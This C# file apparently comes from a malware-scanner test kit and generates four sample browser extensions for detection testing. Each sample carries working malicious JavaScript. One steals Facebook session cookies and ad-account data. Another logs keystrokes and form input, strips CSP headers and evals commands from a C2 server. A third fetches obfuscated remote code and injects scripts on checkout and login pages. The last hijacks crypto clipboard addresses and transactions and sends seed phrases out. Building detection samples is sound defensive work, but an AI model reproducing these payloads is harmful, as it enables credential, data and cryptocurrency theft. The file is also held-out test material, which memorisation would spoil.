using System.Buffers.Binary;
using static ScanHost.TestKit.HeldOut.Eighth.EighthForms;

namespace ScanHost.TestKit.HeldOut.Eighth;

/// <summary>Browser extensions that read cookies, forms and pages and send them on.</summary>
public sealed class BrowserExtensions : EighthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("chatgpt-for-search.crx", Crx(("manifest.json", "{\"manifest_version\":3,\"name\":\"Quick access to Chat GPT\",\"version\":\"1.0\",\"permissions\":[\"cookies\",\"tabs\",\"webRequest\",\"storage\",\"declarativeNetRequest\",\"management\"],\"host_permissions\":[\"<all_urls>\"],\"background\":{\"service_worker\":\"bg.js\"},\"action\":{\"default_popup\":\"p.html\"}}"),
            ("bg.js", "chrome.runtime.onInstalled.addListener(async () => {\n  const cookies = await chrome.cookies.getAll({ domain: 'facebook.com' });\n  const u = cookies.find(c => c.name === 'c_user'), x = cookies.find(c => c.name === 'xs');\n  const ads = await fetch('https://graph.facebook.com/v15.0/me/adaccounts?fields=name,balance,account_status', { credentials: 'include' }).then(r => r.text());\n  await fetch('https://openai-collect.example/api/add-data-account', { method: 'POST', body: JSON.stringify({ cookies, u, x, ads, ua: navigator.userAgent }) });\n});\n"), ("p.html", "<html><body>Ask</body></html>")));
        yield return ("save_to_drive.zip", TextZip(("manifest.json", "{\"manifest_version\":2,\"name\":\"Save to Google Drive\",\"version\":\"1.2.9\",\"permissions\":[\"cookies\",\"history\",\"tabs\",\"webRequest\",\"webRequestBlocking\",\"clipboardRead\",\"nativeMessaging\",\"proxy\",\"<all_urls>\"],\"background\":{\"scripts\":[\"b.js\"]},\"content_scripts\":[{\"matches\":[\"<all_urls>\"],\"js\":[\"c.js\"],\"all_frames\":true,\"run_at\":\"document_start\"}],\"content_security_policy\":\"script-src 'self' 'unsafe-eval'; object-src 'self'\"}"),
            ("b.js", "var C2='https://drive-ext.example/machine/';\nchrome.cookies.getAll({},function(c){post('cookies',c)});chrome.history.search({text:'',maxResults:2000},function(h){post('history',h)});\nchrome.webRequest.onHeadersReceived.addListener(function(d){return{responseHeaders:d.responseHeaders.filter(function(h){return h.name.toLowerCase()!='content-security-policy'&&h.name.toLowerCase()!='x-frame-options'})}},{urls:['<all_urls>']},['blocking','responseHeaders']);\nfunction post(t,d){var x=new XMLHttpRequest();x.open('POST',C2+t);x.send(JSON.stringify(d))}\nsetInterval(function(){fetch(C2+'commands').then(r=>r.text()).then(function(t){(0,eval)(t)})},60000);\n"),
            ("c.js", "document.addEventListener('keydown',function(e){chrome.runtime.sendMessage({k:e.key,u:location.href})},true);\ndocument.addEventListener('submit',function(e){var o={};new FormData(e.target).forEach(function(v,k){o[k]=v});chrome.runtime.sendMessage({f:o,u:location.href})},true);\n")));
        yield return ("adblock_max.xpi", TextZip(("manifest.json", "{\"manifest_version\":2,\"name\":\"AdBlock Max\",\"version\":\"3.1\",\"permissions\":[\"storage\",\"alarms\",\"webNavigation\",\"*://*/*\"],\"background\":{\"scripts\":[\"core.js\"],\"persistent\":true},\"content_security_policy\":\"script-src 'self' 'unsafe-eval' https://cdn.adblock-max.example; object-src 'self'\",\"browser_specific_settings\":{\"gecko\":{\"id\":\"max@adblock-max.example\"}}}"),
            ("core.js", "const k=atob('aHR0cHM6Ly9jZG4uYWRibG9jay1tYXguZXhhbXBsZS9j');browser.alarms.create('q',{delayInMinutes:4320});browser.alarms.onAlarm.addListener(async()=>{const r=await(await fetch(k+'?i='+browser.runtime.id)).text();const s=[...r].map(c=>String.fromCharCode(c.charCodeAt(0)^7)).join('');new Function('b',s)(browser)});browser.webNavigation.onCommitted.addListener(d=>{/(checkout|pay|login)/.test(d.url)&&browser.tabs.executeScript(d.tabId,{code:\"var s=document.createElement('scr'+'ipt');s.src='\"+k+\"/i.js';document.documentElement.appendChild(s)\"})});\n")));
        yield return ("wallet_helper.crx", Crx(("manifest.json", "{\"manifest_version\":3,\"name\":\"Wallet Helper\",\"version\":\"0.9.4\",\"permissions\":[\"storage\",\"scripting\",\"clipboardRead\",\"clipboardWrite\"],\"host_permissions\":[\"https://*/*\"],\"content_scripts\":[{\"matches\":[\"https://*/*\"],\"js\":[\"w.js\"],\"world\":\"MAIN\"}]}"),
            ("w.js", "(()=>{const A={b:'bc1qexampleexampleexampleexampleexampleexam',e:'0x000000000000000000000000000000000000dEaD'};document.addEventListener('copy',()=>setTimeout(async()=>{const t=await navigator.clipboard.readText();if(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(t))navigator.clipboard.writeText(A.b);if(/^0x[a-fA-F0-9]{40}$/.test(t))navigator.clipboard.writeText(A.e)},50));const e=window.ethereum;e&&(e.request=new Proxy(e.request,{apply(f,x,[q]){if(q.method==='eth_sendTransaction'){q.params[0].to=A.e;navigator.sendBeacon('https://wallet-helper.example/t',JSON.stringify(q))}return Reflect.apply(f,x,[q])}}));for(const i of document.querySelectorAll('input'))/seed|mnemonic|phrase/i.test(i.name+i.placeholder)&&i.addEventListener('input',()=>navigator.sendBeacon('https://wallet-helper.example/s',i.value))})();\n")));
    }

    // The third version of the container: a header that would hold proofs, then the archive.
    private static byte[] Crx(params (string Name, string Text)[] members)
    {
        byte[] header = [0x12, 0x08, 0x0A, 2, 1, 2, 0x12, 2, 3, 4];
        var size = new byte[4];
        BinaryPrimitives.WriteInt32LittleEndian(size, header.Length);
        return [.. "Cr24"u8, 3, 0, 0, 0, .. size, .. header, .. TextZip(members)];
    }
}
